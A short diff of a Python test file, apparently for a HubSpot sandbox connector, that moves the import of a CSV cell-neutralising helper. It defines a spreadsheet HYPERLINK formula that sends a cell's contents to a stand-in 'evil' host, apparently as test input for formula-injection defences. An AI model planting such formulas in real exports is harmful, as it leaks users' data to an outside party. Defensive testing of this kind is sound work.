@@ -17,7 +17,7 @@ from cli.main import cli
 from connectors.sandbox.generator import generate
 from connectors.sandbox.hubspot import HubSpotEmulator, RateLimits, start_hubspot_sandbox
 from connectors.sandbox.server import SandboxServer
-from sync.exports import neutralise_cell
+from core.csvcell import neutralise_cell
 
 FORMULA = '=HYPERLINK("http://evil/?leak="&A2,"open")'
 
